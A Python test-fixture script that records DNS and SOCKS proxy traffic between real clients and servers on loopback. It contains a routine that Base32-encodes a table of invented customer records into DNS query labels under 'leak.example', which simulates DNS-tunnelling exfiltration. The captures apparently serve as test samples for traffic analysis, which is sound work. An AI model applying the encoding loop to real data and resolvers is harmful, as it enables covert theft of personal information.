"""Records names and proxies: real clients against real servers.

Each capture is one short dialogue over loopback with invented customers. Run as root; it makes namespaces of its own,
so that all ports are free and no name of the machine is recorded::

    apt-get install --no-install-recommends dnsmasq-base bind9-dnsutils microsocks dante-server curl tcpdump iproute2
    python3 tests/recorded/make_names.py [NAME...]

Writes::

    dns.pcap    addresses, a name that does not exist, texts over UDP and TCP, and a table that leaves in queries, its
                bytes as Base32 in the labels
    socks.pcap  version 5 with a login refused and accepted (port 1080), version 5 without one and version 4 (port
                1081): each gets a table from a web server
"""

from __future__ import annotations

import base64
import sys
from typing import TYPE_CHECKING, Final

from stage import HOST, customers, perform, recording, run, running

if TYPE_CHECKING:
    from pathlib import Path

USER: Final = "crmexport"
PASSWORD: Final = "Autumn-Rain-7"
WRONG: Final = "Winter-Sun-8"
LABEL: Final = 56
DANTE: Final = """
logoutput: {folder}/log
internal: 127.0.0.1 port = 1081
external: lo
clientmethod: none
socksmethod: none
user.privileged: root
user.unprivileged: nobody
client pass {{ from: 0/0 to: 0/0 }}
socks pass {{ from: 0/0 to: 0/0 }}
"""


def table(seed: int, count: int) -> str:
    """Invented customers as CSV."""
    rows = [f"{who.name},{who.resident_id},{who.mobile},{who.card},{who.email}" for who in customers(seed, count)]
    return "姓名,id_card,mobile,card,email\r\n" + "\r\n".join(rows) + "\r\n"


def dns(folder: Path) -> None:
    """Questions and answers, and a table in questions."""
    first, second = customers(301, 2)
    text = f"contact={first.mobile} {first.email}"
    long = f"{second.name} {second.resident_id} {second.card} "
    zone = ("--local=/crm.example/", "--host-record=www.crm.example,192.0.2.7,2001:db8::7", "--local-ttl=60")
    zone += ("--mx-host=crm.example,mail.crm.example,10", f"--txt-record=contact.crm.example,{text}")
    zone += (f"--txt-record=long.crm.example,{','.join([long * 3] * 10)}", "--address=/leak.example/192.0.2.9")
    options = (
        "--no-daemon",
        "--no-resolv",
        "--no-hosts",
        "--conf-file=/dev/null",
        "--user=root",
        "--edns-packet-max=1232",
    )
    options += ("--bind-interfaces", f"--listen-address={HOST}", f"--pid-file={folder / 'pid'}", *zone)
    with running("dnsmasq", *options), recording("dns", "port 53"):
        for kind, name in (("A", "www.crm.example"), ("AAAA", "www.crm.example"), ("MX", "crm.example")):
            run("dig", f"@{HOST}", kind, name)
        run("dig", f"@{HOST}", "A", "nobody.crm.example")
        run("dig", f"@{HOST}", "TXT", "contact.crm.example")
        run("dig", f"@{HOST}", "+tcp", "TXT", "contact.crm.example")
        # Too long for a datagram: the client asks again over TCP.
        run("dig", f"@{HOST}", "TXT", "long.crm.example")
        coded = base64.b32encode(table(302, 6).encode()).decode().rstrip("=").lower()
        labels = [coded[start : start + LABEL] for start in range(0, len(coded), LABEL)]
        for number in range(0, len(labels), 3):
            name = ".".join((*labels[number : number + 3], f"{number // 3}.leak.example"))
            run("dig", f"@{HOST}", "+noedns", "A", name)


def socks(folder: Path) -> None:
    """Two servers, two versions."""
    (folder / "customers.csv").write_text(table(311, 4), encoding="utf-8")
    config = folder / "danted.conf"
    config.write_text(DANTE.format(folder=folder), encoding="utf-8")
    web = (sys.executable, "-m", "http.server", "--bind", HOST, "--directory", str(folder), "8000")
    micro = ("microsocks", "-i", HOST, "-p", "1080", "-u", USER, "-P", PASSWORD)
    there = f"http://{HOST}:8000/customers.csv"
    curl = ("curl", "-s", "-S", "-o", "/dev/null", "-x")
    with (
        running(*web),
        running(*micro),
        running("danted", "-f", str(config), wait=2),
        recording("socks", "tcp portrange 1080-1081"),
    ):
        run(*curl, f"socks5://{USER}:{WRONG}@{HOST}:1080", there, fails=True)
        run(*curl, f"socks5h://{USER}:{PASSWORD}@{HOST}:1080", there.replace(HOST, "localhost"))
        run(*curl, f"socks5://{HOST}:1081", there)
        run(*curl, f"socks4://{USER}@{HOST}:1081", there)


if __name__ == "__main__":
    perform({"dns": dns, "socks": socks}, "--uts", hostname="crm-1")
